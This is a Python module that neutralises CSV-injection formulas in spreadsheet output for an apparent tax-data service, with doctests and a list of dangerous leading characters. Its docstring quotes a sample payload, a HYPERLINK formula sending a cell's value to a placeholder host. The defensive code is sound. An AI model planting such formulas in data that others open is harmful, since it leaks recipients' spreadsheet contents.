"""CSV that a spreadsheet opens as text: no cell taxgate writes can run as a formula.

A response goes to a requesting agency, which opens it in a spreadsheet. A request id such
as ``=HYPERLINK("http://x/?"&A1)`` or ``@SUM(1+1)``, written as it came, would run there
(CSV injection, OWASP). Refusing such ids at intake would refuse a batch for a character,
and a taxpayer's own filed address or another file's value could carry one too; so, as
the data contract says (§4), every CSV taxgate writes prefixes a cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return with an apostrophe, which spreadsheets
show as text and do not display. Reading a taxgate CSV back, :func:`restore` takes it off
(a value that itself began with an apostrophe and then ``=``, the one ambiguous case, reads
back without that apostrophe).

Example:
    >>> rows_to_csv(["request_id", "outcome"], [["=1+1", "REJECTED"], ["R2", "-"]])
    "request_id,outcome\\n'=1+1,REJECTED\\nR2,'-\\n"
    >>> restore("'=1+1"), restore("'quoted"), restore("R2")
    ('=1+1', "'quoted", 'R2')
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

__all__ = ["FORMULA_STARTS", "neutralise", "restore", "rows_to_csv"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a cell may not begin with (OWASP CSV injection): a spreadsheet would evaluate it."""

_TEXT_MARK = "'"


def neutralise(value: Any) -> Any:
    """``value`` with an apostrophe before it if it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return _TEXT_MARK + value
    return value


def restore(cell: str) -> str:
    """A cell as it was before :func:`neutralise` (for reading taxgate's own CSV back)."""
    if cell.startswith(_TEXT_MARK) and cell[1:].startswith(FORMULA_STARTS):
        return cell[1:]
    return cell


def rows_to_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """The CSV text of ``header`` and ``rows`` (``\\n`` line ends), every cell neutralised."""
    buffer = io.StringIO()
    minimal = csv.writer(buffer, lineterminator="\n")
    # Python's writer quotes a line break only if it is in the line terminator: a lone
    # carriage return inside a value would end the record for every reader. Such a row is
    # written with every field quoted.
    quoted = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in (header, *rows):
        cells = [neutralise(value) for value in row]
        has_cr = any(isinstance(cell, str) and "\r" in cell for cell in cells)
        (quoted if has_cr else minimal).writerow(cells)
    return buffer.getvalue()
